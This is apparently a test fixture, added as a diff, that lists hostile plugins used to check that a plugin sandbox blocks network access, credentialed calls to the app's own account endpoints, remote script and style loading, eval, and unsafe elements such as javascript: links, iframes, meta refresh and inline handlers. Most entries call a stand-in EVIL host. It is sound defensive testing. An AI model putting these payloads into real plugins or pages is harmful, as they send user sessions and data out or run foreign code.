@@ -1,0 +1,124 @@
+// Plugins that would send something out, or load something in.
+import type { HostilePlugin } from './hostile-plugin.js'
+
+export const NETWORK: readonly HostilePlugin[] = [
+  {
+    name: 'requests',
+    tries: 'asks a foreign server by everything that a worker can ask with',
+    attack: `
+      await tried('fetch', () => fetch(EVIL + '/fetch', { mode: 'no-cors', credentials: 'include' }))
+      await tried('beacon', () => navigator.sendBeacon(EVIL + '/beacon', 'x'))
+      await tried('xhr', () => new Promise((resolve, reject) => {
+        const request = new XMLHttpRequest()
+        request.open('GET', EVIL + '/xhr')
+        request.onload = () => resolve('answered')
+        request.onerror = reject
+        request.send()
+      }))
+      const opened = (make) => new Promise((resolve, reject) => {
+        const made = make()
+        made.onopen = () => resolve('open')
+        made.onerror = reject
+        setTimeout(reject, 500)
+      })
+      await tried('socket', () => opened(() => new WebSocket(WS + '/socket')))
+      await tried('events', () => opened(() => new EventSource(EVIL + '/events')))
+      await tried('transport', async () => { await new WebTransport(EVIL.replace('http:', 'https:') + '/transport').ready; return 'ready' })
+      await tried('peer', () => globalThis.RTCPeerConnection)
+      await tried('font', async () => (await new FontFace('x', 'url(' + EVIL + '/font)').load(), 'loaded'))`,
+  },
+  {
+    name: 'own-server',
+    tries: 'asks our own server, where the session would answer',
+    attack: `
+      const own = new URL('/', import.meta.url).origin
+      for (const path of ['/account/api/v1/plugins/', '/presence/api/v1/auth/user', '/tenant.json', '/apart/frame.html'])
+        await tried('fetch ' + path, async () => (await fetch(own + path, { credentials: 'include' })).status)
+      await tried('socket', () => new Promise((resolve, reject) => {
+        const socket = new WebSocket(own.replace('http', 'ws') + '/account/api/v1/sync')
+        socket.onopen = () => resolve('open')
+        socket.onerror = reject
+      }))`,
+  },
+  {
+    name: 'scripts',
+    tries: 'loads code from elsewhere, of data and blob addresses, and from text',
+    attack: `
+      const blob = URL.createObjectURL(new Blob(['export default 1'], { type: 'text/javascript' }))
+      for (const address of [EVIL + '/import.js', 'data:text/javascript,export default 1', blob])
+        await tried('import ' + address.slice(0, 20), async () => (await import(address)).default)
+      await tried('importScripts', () => (importScripts(EVIL + '/import-scripts.js'), 'loaded'))
+      await tried('eval', () => (0, eval)('1'))
+      await tried('Function', () => new Function('return 1')())
+      await tried('timer', () => new Promise(resolve => { globalThis.hit = resolve; setTimeout('hit("ran")', 0); setTimeout(resolve, 50) }))
+      await tried('wasm', async () => (await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])), 'compiled'))`,
+  },
+  {
+    name: 'style-sheet',
+    tries: 'loads pictures, fonts and sheets from its style sheet',
+    shown: true,
+    style: `
+      @import url('EVIL/import.css');
+      @font-face { font-family: evil; src: url('EVIL/font.woff2') }
+      .evil { background: url('EVIL/background.png'); font-family: evil; cursor: url('EVIL/cursor.png'), auto; list-style: url('EVIL/list.png') }
+      .evil::after { content: url('EVIL/content.png'); mask: url('EVIL/mask.svg#m'); filter: url('EVIL/filter.svg#f') }`,
+    screen: `return h('p', { className: 'evil' }, 'shown')`,
+  },
+  ...[
+    [
+      'style-attribute',
+      `h('p', { style: { background: 'url(' + EVIL + '/style.png)' } }, 'x')`,
+      /attribute “style”/,
+    ],
+    [
+      'style-escape',
+      `h('p', { style: { background: 'u\\\\72l(' + EVIL + '/style.png)' } }, 'x')`,
+      /attribute “style”/,
+    ],
+    ['picture', `h('img', { src: EVIL + '/picture.png', alt: '' })`, /attribute “src”/],
+    ['picture-set', `h('img', { srcSet: EVIL + '/picture.png 1x', alt: '' })`, /attribute “srcset”/i],
+    ['link', `h('a', { href: EVIL + '/link', target: '_top' }, 'x')`, /attribute “(href|target)”/],
+    ['script-link', `h('a', { href: 'javascript:fetch(' + JSON.stringify(EVIL) + ')' }, 'x')`, /./],
+    [
+      'form',
+      `h('form', { action: EVIL + '/form', method: 'post' }, h('button', null, 'x'))`,
+      /attribute “(action|method)”/,
+    ],
+    [
+      'meta',
+      `h('div', null, h('meta', { httpEquiv: 'refresh', content: '0;url=' + EVIL + '/meta' }))`,
+      /element “meta”/,
+    ],
+    ['frame', `h('iframe', { src: EVIL + '/frame' })`, /element “iframe”/],
+    ['sheet-link', `h('div', null, h('link', { rel: 'dns-prefetch', href: EVIL }))`, /element “link”/],
+    ['svg-use', `h('svg', null, h('use', { href: EVIL + '/use.svg#x' }))`, /attribute “href”/],
+    [
+      'svg-foreign',
+      `h('svg', null, h('foreignObject', null, h('iframe', { src: EVIL })))`,
+      /element “foreignObject”/,
+    ],
+    [
+      'svg-animation',
+      `h('svg', null, h('a', null, h('animate', { attributeName: 'href', to: 'javascript:0' })))`,
+      /element “(a|animate)”/,
+    ],
+    [
+      'markup',
+      `h('div', { dangerouslySetInnerHTML: { __html: '<img src=' + EVIL + '/html onerror=1>' } })`,
+      /./,
+    ],
+    [
+      'handler',
+      `h('div', { ref: element => element?.setAttribute('onclick', 'parent.x()') }, 'x')`,
+      /attribute “onclick”/,
+    ],
+  ].map(
+    ([name, element, refused]): HostilePlugin => ({
+      name: `screen-${name}`,
+      tries: 'shows what would load, run or lead elsewhere',
+      shown: true,
+      screen: `return ${element}`,
+      refused: refused as RegExp,
+    }),
+  ),
+]
